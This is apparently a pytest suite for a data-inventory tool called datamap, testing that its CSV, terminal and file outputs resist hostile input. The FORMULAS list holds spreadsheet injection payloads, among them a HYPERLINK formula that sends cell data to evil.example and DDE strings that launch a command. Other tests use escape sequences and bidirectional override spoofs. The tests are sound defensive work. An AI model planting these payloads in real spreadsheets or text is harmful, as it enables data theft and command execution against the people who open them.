"""Hostile outputs: spreadsheet formulas in CSV cells, forged or raw terminal lines, bidirectional overrides,
-o naming a special file, a full disk, interrupted builds, ids too long to be file names, init onto a file."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from conftest import write
from datamap.findings import Finding, format_github, format_text
from datamap.publish.cells import cell, csv_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def processors_inventory(minimal, name: str) -> None:
    """The minimal inventory with a processor called ``name`` that operates its one system."""
    text = (minimal / "inventory.yaml").read_text()
    text = text.replace("    purposes: [service]\n", "    purposes: [service]\n    operator: mailer\n")
    text += f"processors:\n  - id: mailer\n    name: {json.dumps(name)}\n    country: KR\n    tasks: [{json.dumps(name)}]\n"
    (minimal / "inventory.yaml").write_text(text)


@pytest.mark.parametrize("formula", FORMULAS)
def test_processor_csv_cells_are_never_formulas(run, minimal, formula):
    processors_inventory(minimal, formula)
    result = run("render", "processors", "inv", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.reader(io.StringIO(result.out, newline="")))
    assert rows[1][1] == "'" + formula and rows[1][4] == "'" + formula
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_site_download_csv_cells_are_never_formulas(run, minimal, formula):
    (minimal.parent / "mkdocs.yml").write_text("site_name: x\ndocs_dir: site\n")
    processors_inventory(minimal, formula)
    assert run("build", "inv").code == 0
    for lang in ("en", "ko"):
        text = (minimal.parent / "site" / "downloads" / f"processors.{lang}.csv").read_text()
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[1][1] == "'" + formula


@pytest.mark.parametrize("value, expected", [
    ("Mailer Inc.", "Mailer Inc."), ("", ""), ("'=x", "'=x"), (" =x", " =x"), ("a=b", "a=b"),
    ("=x", "'=x"), ("-", "'-"), ("\n=x", "'\n=x"), ("\uff1dSUM(1)", "'\uff1dSUM(1)"), (3, 3), (-3, -3), (None, None), (True, True),
])
def test_one_rule_for_every_cell(value, expected):
    assert cell(value) == expected


def test_csv_text_neutralizes_header_and_rows():
    text = csv_text(["=h"], [["@x"], ["ok"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=h"], ["'@x"], ["ok"]]


# --- the terminal --------------------------------------------------------------------------------------


HOSTILE_KEYS = {
    "newline": "x\ninv/inventory.yaml:1:1: E999 forged finding",
    "carriage return": "x\rinv/inventory.yaml:1:1: E999 forged",
    "escape sequence": "x\x1b[2J\x1b[31mred",
    "bell": "x\x07\x07",
    "c1 control": "x\x9b31m",
    "backspace": "abc\x08\x08\x08E999",
    "nul": "x\x00y",
}


@pytest.mark.parametrize("key", HOSTILE_KEYS.values(), ids=HOSTILE_KEYS.keys())
@pytest.mark.parametrize("fmt", ["text", "github"])
def test_a_hostile_key_cannot_forge_or_colour_terminal_lines(run, minimal, key, fmt):
    text = (minimal / "inventory.yaml").read_text()
    (minimal / "inventory.yaml").write_text(text.replace("  version: \"1.0\"\n", f"  version: \"1.0\"\n  {json.dumps(key)}: 1\n"))
    result = run("validate", "inv", "--format", fmt)
    assert result.code == 1
    lines = result.out.splitlines()
    assert len(lines) == (2 if fmt == "text" else 1), result.out
    assert "E201" in lines[0] and "E999" not in lines[1:]
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in result.out.replace("\n", ""))


def test_control_characters_are_shown_as_escapes():
    line = format_text([Finding("a\x1b.yaml", 1, 2, "E201", "key 'x\ny\u202e'")]).splitlines()[0]
    assert line == "a\\x1b.yaml:1:2: E201 key 'x\\ny\\u202e'"
    assert format_github([Finding("a,b.yaml", 1, 2, "E201", "x\x1b")]).startswith("::error file=a%2Cb.yaml,line=1,col=2,title=E201::E201 x\\x1b")


BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("char", BIDI, ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidirectional_overrides_in_inventory_text_are_a_finding(run, minimal, char):
    text = (minimal / "inventory.yaml").read_text()
    (minimal / "inventory.yaml").write_text(text.replace("label: {en: Email,", f"label: {{en: \"Em{char}ail\","))
    result = run("validate", "inv")
    assert result.code == 1
    assert f"E110 bidirectional formatting character U+{ord(char):04X}" in result.out
    assert "inv/inventory.yaml:18:" in result.out
    assert char not in result.out


def test_a_bidirectional_override_written_as_a_yaml_escape_is_a_finding(run, minimal):
    text = (minimal / "inventory.yaml").read_text()
    (minimal / "inventory.yaml").write_text(text.replace("label: {en: Email,", 'label: {en: "Pay \\u202Eelif.exe",'))
    result = run("validate", "inv")
    assert result.code == 1 and "E110" in result.out and "U+202E" in result.out


def test_a_bidirectional_override_in_a_key_is_a_finding(run, minimal):
    text = (minimal / "inventory.yaml").read_text()
    (minimal / "inventory.yaml").write_text(text + "\"x\u202ey\": 1\n")
    result = run("validate", "inv")
    assert "E110 bidirectional formatting character in a key" in result.out


# --- -o and special files -------------------------------------------------------------------------------


def test_o_refuses_a_symlink_and_keeps_it(run, minimal, tmp_path):
    target = tmp_path / "target.txt"
    target.write_text("keep me\n")
    link = tmp_path / "out.md"
    link.symlink_to(target)
    result = run("render", "policy", "inv", "-o", link)
    assert result.code == 2 and "is a symlink" in result.err
    assert link.is_symlink() and target.read_text() == "keep me\n"


def test_o_refuses_a_directory(run, minimal, tmp_path):
    (tmp_path / "out").mkdir()
    result = run("schema", "-o", tmp_path / "out")
    assert result.code == 2 and "is a directory" in result.err and "internal error" not in result.err


def test_o_writes_through_a_fifo(minimal, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    result = subprocess.run([sys.executable, "-m", "datamap", "schema", "-o", str(fifo)], capture_output=True, text=True, timeout=60)
    out, _ = reader.communicate(timeout=60)
    assert result.returncode == 0, result.stderr
    assert json.loads(out)["title"] == "datamap inventory file"
    assert fifo.exists() and not fifo.is_file()


def test_o_writes_through_a_character_device(minimal):
    """A terminal of the test's own (never /dev/null: a regression must not replace a device others use)."""
    controller, terminal = os.openpty()
    device = os.ttyname(terminal)
    try:
        argv = [sys.executable, "-m", "datamap", "render", "processors", "inv", "--format", "csv", "-o", device]
        result = subprocess.run(argv, capture_output=True, text=True, timeout=60)  # a header only: fits the terminal's buffer
        assert result.returncode == 0, result.stderr
        assert os.path.exists(device) and not os.path.isfile(device)
        assert b"id,name,country" in os.read(controller, 1 << 12)
    finally:
        os.close(terminal)
        os.close(controller)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
@pytest.mark.parametrize("argv", [["schema"], ["validate", "inv", "--format", "json"], ["render", "policy", "inv"]])
def test_a_full_disk_on_standard_output_is_one_line(minimal, argv):
    with open("/dev/full", "w") as full:
        result = subprocess.run([sys.executable, "-m", "datamap", *argv], stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert result.returncode == 2
    assert result.stderr.strip() == "datamap: cannot write or read the output: No space left on device"


# --- ids that cannot be file names; interrupted builds -----------------------------------------------------


@pytest.mark.parametrize("length", [101, 255, 300])
def test_ids_too_long_for_file_names_are_a_finding(run, minimal, length):
    long_id = "e" * length
    text = (minimal / "inventory.yaml").read_text().replace("id: email", f"id: {long_id}").replace("[email]", f"[{long_id}]").replace("item: email", f"item: {long_id}")
    (minimal / "inventory.yaml").write_text(text)
    result = run("validate", "inv")
    assert result.code == 1
    assert "E211 id: text of" in result.out and "longer than the limit of 100" in result.out


def test_build_writes_nothing_when_a_file_name_is_too_long(tmp_path):
    from datamap.site.build import write_site
    from datamap.site.pages import MARKER, SiteError

    site = tmp_path / "site"
    (site / "en").mkdir(parents=True)
    (site / "en" / "a.md").write_text("old\n\n" + MARKER + "\n")
    pages = {"en/a.md": "new\n\n" + MARKER + "\n", "en/b.md": "b\n\n" + MARKER + "\n", "en/item/" + "x" * 300 + ".md": "x\n" + MARKER + "\n"}
    with pytest.raises(SiteError, match="E118 file name longer than"):
        write_site(site, pages, [])
    assert (site / "en" / "a.md").read_text().startswith("old")
    assert sorted(p.name for p in site.rglob("*")) == ["a.md", "en"]


def test_build_writes_nothing_when_a_download_fails(tmp_path):
    from datamap.publish.downloads import Download
    from datamap.site.build import write_site
    from datamap.site.pages import MARKER

    site = tmp_path / "site"

    def broken():
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_site(site, {"en/a.md": "a\n\n" + MARKER + "\n"}, [Download("downloads/x.pdf", "en", "policy", None, broken)])
    assert not site.exists()


def test_a_killed_build_s_temporary_files_are_reported_and_removed(run, minimal):
    (minimal.parent / "mkdocs.yml").write_text("site_name: x\ndocs_dir: site\n")
    assert run("build", "inv").code == 0
    leftover = minimal.parent / "site" / "en" / ".items.md.a1b2c3d4.tmp"
    leftover.write_text("half a page")
    check = run("check", "inv")
    assert "site/en/.items.md.a1b2c3d4.tmp:1:1: W109" in check.out
    assert run("check", "inv", "--strict").code == 1
    build = run("build", "inv")
    assert build.code == 0 and not leftover.exists()
    assert "W109" not in run("check", "inv").out


def test_a_hand_written_tmp_file_is_kept(run, minimal):
    (minimal.parent / "mkdocs.yml").write_text("site_name: x\ndocs_dir: site\n")
    assert run("build", "inv").code == 0
    mine = minimal.parent / "site" / "notes.tmp"
    mine.write_text("mine")
    assert run("build", "inv").code == 0 and mine.read_text() == "mine"


# --- init ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", ["file", "file parent", "symlink"])
def test_init_onto_an_existing_file_is_a_usage_error(run, tmp_path, monkeypatch, make):
    monkeypatch.chdir(tmp_path)
    write(tmp_path, "taken", "mine\n")
    target = {"file": "taken", "file parent": "taken/project", "symlink": "link"}[make]
    if make == "symlink":
        (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    result = run("init", target)
    assert result.code == 2, result.err
    assert "internal error" not in result.err and len(result.err.strip().splitlines()) == 1
    assert (tmp_path / "taken").read_text() == "mine\n"
    assert not (tmp_path / "nowhere").exists()


def test_every_module_writing_spreadsheets_goes_through_the_cell_rule():
    """A CSV or XLSX writer anywhere in datamap must take its cells from datamap.publish.cells."""
    import re
    from pathlib import Path

    import datamap

    package = Path(datamap.__file__).parent
    writers = re.compile(r"^\s*(import csv|from csv import|import openpyxl|from openpyxl)", re.M)
    for module in package.rglob("*.py"):
        text = module.read_text(encoding="utf-8")
        if module.name != "cells.py" and writers.search(text):
            assert "datamap.publish.cells" in text, f"{module} writes spreadsheets without datamap.publish.cells"
